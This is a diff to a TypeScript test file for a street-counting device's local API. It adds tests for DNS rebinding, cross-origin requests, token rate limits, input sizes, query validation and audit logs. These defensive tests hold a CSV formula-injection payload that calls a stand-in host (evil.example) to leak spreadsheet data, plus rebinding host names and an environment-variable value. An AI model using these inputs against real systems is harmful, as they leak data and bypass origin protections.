@@ -1,7 +1,9 @@
 import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
+import { hostname, tmpdir } from "node:os";
 import { join } from "node:path";
+import { pino } from "pino";
 import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
+import { intervalCsvRows } from "../edge/api/history.ts";
 import { type ApiSource, buildApi } from "../edge/api/server.ts";
 import type { SourceState } from "../edge/capture/source.ts";
 import { geometryRevision, saveGeometry } from "../edge/config/edit.ts";
@@ -86,12 +88,16 @@ const source: ApiSource = {
   liveCounts: () => ({ totals: [], today: [], occupancy: [], processedFps: 0 }),
 };
 const setupChanges: SetupState[] = [];
+/** The API's audit lines, as pino writes them. */
+const auditLines: Record<string, unknown>[] = [];
 const app = buildApi({
   source,
   host: config.api.host,
   token: config.api.token,
   redact: (t) => redactor.text(t),
   loginPerMinute: 4,
+  allowedHosts: ["pole-7.city.example"],
+  log: pino({ level: "info" }, { write: (line: string) => auditLines.push(JSON.parse(line)) }),
 });
 
 beforeAll(() => {
@@ -114,11 +120,31 @@ const cameraUp: SourceState = {
 describe("local API over its source (fastify.inject, no runtime)", () => {
   it("off loopback, everything but /health needs the bearer token", async () => {
     expect((await app.inject("/health")).statusCode).toBe(503);
-    for (const url of ["/api/counts", "/metrics", "/api/status", "/api/config"]) {
+    for (const [i, url] of ["/api/counts", "/metrics", "/api/status", "/api/config"].entries()) {
       expect((await app.inject(url)).statusCode).toBe(401);
-      expect((await app.inject({ url, headers: { authorization: "Bearer wrong" } })).statusCode).toBe(401);
+      // each wrong token from its own address: one address's guesses are limited (next test)
+      const wrong = { url, headers: { authorization: "Bearer wrong" }, remoteAddress: `192.0.2.${i + 1}` };
+      expect((await app.inject(wrong)).statusCode).toBe(401);
       expect((await app.inject({ url, headers: auth })).statusCode).toBe(200);
     }
+  });
+
+  it("wrong bearer tokens are limited per address like logins: past the limit even the right one waits", async () => {
+    const from = { remoteAddress: "198.51.100.7" };
+    const codes: number[] = [];
+    for (let i = 0; i < 6; i++)
+      codes.push(
+        (await app.inject({ url: "/api/status", headers: { authorization: `Bearer guess-${i}` }, ...from }))
+          .statusCode,
+      );
+    expect(codes).toEqual([401, 401, 401, 401, 429, 429]);
+    const right = await app.inject({ url: "/api/status", headers: auth, ...from });
+    expect(right.statusCode).toBe(429);
+    expect(Number(right.headers["retry-after"])).toBeGreaterThan(0);
+    // another address is not held up by these guesses
+    expect(
+      (await app.inject({ url: "/api/status", headers: auth, remoteAddress: "198.51.100.8" })).statusCode,
+    ).toBe(200);
   });
 
   it.each([
@@ -218,10 +244,11 @@ describe("local API over its source (fastify.inject, no runtime)", () => {
     });
     expect(put.statusCode).toBe(200);
     expect(JSON.parse(put.body).lines[0]).toMatchObject(lines[0] as object);
-    // in the file (comment kept) and in the running pipeline; the interval was split and flagged
+    // in the file (comment kept) and in the running pipeline; the interval goes on, flagged
     expect(readFileSync(configFile, "utf8")).toMatch(/^# pole 7[\s\S]*name: gate/);
     expect(pipeline.currentGeometry.lines.map((l) => l.name)).toEqual(["gate"]);
-    expect(closedAtChange.map((iv) => iv.quality.geometryChanged)).toEqual([true]);
+    expect(closedAtChange).toEqual([]);
+    expect(pipeline.snapshot(2_000)?.quality.geometryChanged).toBe(true);
     expect(JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body).lines[0].name).toBe(
       "gate",
     );
@@ -478,4 +505,164 @@ describe("the page's login, CSRF and set-up mode (off loopback)", () => {
     expect(js.body + html.body).not.toMatch(/https?:\/\/(?!www\.w3\.org)[a-z]/i);
     expect(js.rawPayload.length + css.rawPayload.length).toBeLessThanOrEqual(150 * 1024);
   }, 60_000);
+});
+
+describe("what a break-it pass found (DNS rebinding, environment, CSV, sizes, queries, audit)", () => {
+  const line = (from: string, to = "east", name = "gate") => ({
+    name,
+    points: [
+      [0.5, 0],
+      [0.5, 1],
+    ],
+    from,
+    to,
+  });
+  const put = (payload: unknown, headers: Record<string, string> = {}) =>
+    app.inject({
+      method: "PUT",
+      url: "/api/geometry",
+      headers: { ...auth, ...headers },
+      payload: payload as object,
+    });
+
+  it("a request naming a host that is not this device's is refused; IP addresses, localhost, its own and listed names are not", async () => {
+    for (const host of [
+      "evil.example",
+      "evil.example:8080",
+      "localhost.evil.example",
+      "127.0.0.1.nip.io:8080",
+    ]) {
+      const r = await app.inject({ url: "/api/config", headers: { ...auth, host } });
+      expect(r.statusCode, host).toBe(403);
+      expect(r.body).toMatch(/api\.allowedHosts/);
+    }
+    for (const host of [
+      "127.0.0.1:8080",
+      "[::1]:8080",
+      "10.0.0.7",
+      "localhost:8080",
+      hostname(),
+      `${hostname()}.local:80`,
+      "POLE-7.city.example:8080",
+    ])
+      expect((await app.inject({ url: "/api/config", headers: { ...auth, host } })).statusCode, host).toBe(
+        200,
+      );
+    // the health check answers whatever name it is asked by (a load balancer's, a container's)
+    expect((await app.inject({ url: "/health", headers: { host: "evil.example" } })).statusCode).not.toBe(
+      403,
+    );
+  });
+
+  it("a write or read from another site's page (Origin) is refused, the page's own origin is not", async () => {
+    const rev = JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body).revision;
+    const foreign = await put(
+      { lines: [line("west")], zones: [], revision: rev },
+      { origin: "http://evil.example" },
+    );
+    expect(foreign.statusCode).toBe(403);
+    expect((await app.inject({ url: "/api/config", headers: { ...auth, origin: "null" } })).statusCode).toBe(
+      403,
+    );
+    const own = await app.inject({
+      url: "/api/config",
+      headers: { ...auth, host: "127.0.0.1:8080", origin: "http://127.0.0.1:8080" },
+    });
+    expect(own.statusCode).toBe(200);
+  });
+
+  it("${NAME} in a side's name is not read from the environment: it is refused as written, without saying whether NAME exists", async () => {
+    for (const side of ["${HOME}", "${NO_SUCH_VARIABLE_42}"]) {
+      const r = await put({ lines: [line(side)], zones: [] });
+      expect(r.statusCode, side).toBe(400);
+      const body = r.body;
+      expect(body).toMatch(/lines\[0\]\.from: no control characters or \$/);
+      expect(body).not.toMatch(/environment variable|not set/);
+      if (process.env.HOME) expect(body).not.toContain(`"${process.env.HOME}"`);
+    }
+  });
+
+  it("side names a spreadsheet would run as formulas are refused, and CSV cells that start like one are defused", async () => {
+    for (const side of ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "@SUM(1,2)", "-2+3", " =1"])
+      expect((await put({ lines: [line(side)], zones: [] })).statusCode, side).toBe(400);
+    expect(
+      (await put({ lines: [line("Nørrebro (north)", "Søndergade/centre")], zones: [] })).statusCode,
+    ).toBe(200);
+    // a history written before these rules still downloads safely
+    const csv = intervalCsvRows({
+      deviceId: "api-1",
+      startMs: 0,
+      endMs: 60_000,
+      partial: false,
+      quality: { coverageSec: 60 } as IntervalCounts["quality"],
+      lines: [
+        {
+          line: "gate",
+          from: '=HYPERLINK("http://evil.example/?"&A1,"x")',
+          to: "@SUM(1,2)",
+          mode: "pedestrian",
+          count: 3,
+        },
+      ],
+      zones: [],
+    });
+    expect(csv).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")","'@SUM(1,2)",pedestrian,3,`);
+  });
+
+  it("sizes are bounded: 10,000 lines, a 100 KB side name and a 900 KB body are refused, and no answer echoes them back", async () => {
+    const lines = (n: number) => Array.from({ length: n }, (_, i) => line("west", "east", `g${i}`));
+    const tooMany = await put({ lines: lines(51), zones: [] });
+    expect(tooMany.statusCode).toBe(400);
+    expect(tooMany.body).toMatch(/lines: expected at most 50 lines, got 51/);
+    expect(tooMany.body.length).toBeLessThan(4096);
+    expect((await put({ lines: lines(10_000), zones: [] })).statusCode).toBe(413);
+    const long = await put({ lines: [line("w".repeat(100_000))], zones: [] });
+    expect(long.statusCode).toBe(400);
+    expect(long.body).toMatch(/lines\[0\]\.from: expected at most 64 characters, got 100000/);
+    expect(long.body.length).toBeLessThan(4096);
+    const huge = await put({ lines: [line("w".repeat(900_000))], zones: [] });
+    expect(huge.statusCode).toBe(413);
+    expect(huge.body.length).toBeLessThan(4096);
+  });
+
+  it("times beyond what a date can hold and unknown query parameters are a 400 naming them, not a 500 or ignored", async () => {
+    const far = await app.inject({ url: "/api/counts?to=99999999999999999999&resolution=1d", headers: auth });
+    expect(far.statusCode).toBe(400);
+    expect(far.body).toMatch(/to: expected an ISO 8601 time/);
+    for (const url of [
+      "/api/counts?frmo=2026-01-01",
+      "/api/status?x=1",
+      "/api/geometry?debug=1",
+      "/health?verbose",
+    ]) {
+      const r = await app.inject({ url, headers: auth });
+      expect(r.statusCode, url).toBe(400);
+      expect(r.body, url).toMatch(/must NOT have additional properties/);
+    }
+  });
+
+  it("saves and set-up switches leave an audit line: who, from where, what changed", async () => {
+    const before = auditLines.length;
+    const rev = JSON.parse((await app.inject({ url: "/api/geometry", headers: auth })).body).revision;
+    expect(
+      (await put({ lines: [line("west", "east", "audited")], zones: [], revision: rev })).statusCode,
+    ).toBe(200);
+    expect(
+      (await app.inject({ method: "POST", url: "/api/setup", headers: auth, payload: { active: true } }))
+        .statusCode,
+    ).toBe(200);
+    expect(
+      (await app.inject({ method: "POST", url: "/api/setup", headers: auth, payload: { active: false } }))
+        .statusCode,
+    ).toBe(200);
+    const lines = auditLines.slice(before);
+    expect(lines.map((l) => l.msg)).toEqual(["lines and zones saved", "set-up mode on", "set-up mode off"]);
+    expect(lines[0]).toMatchObject({
+      by: "bearer token",
+      from: "127.0.0.1",
+      added: ["audited"],
+      lines: ["audited"],
+    });
+    expect(JSON.stringify(lines)).not.toContain("a-long-enough-token-123");
+  });
 });
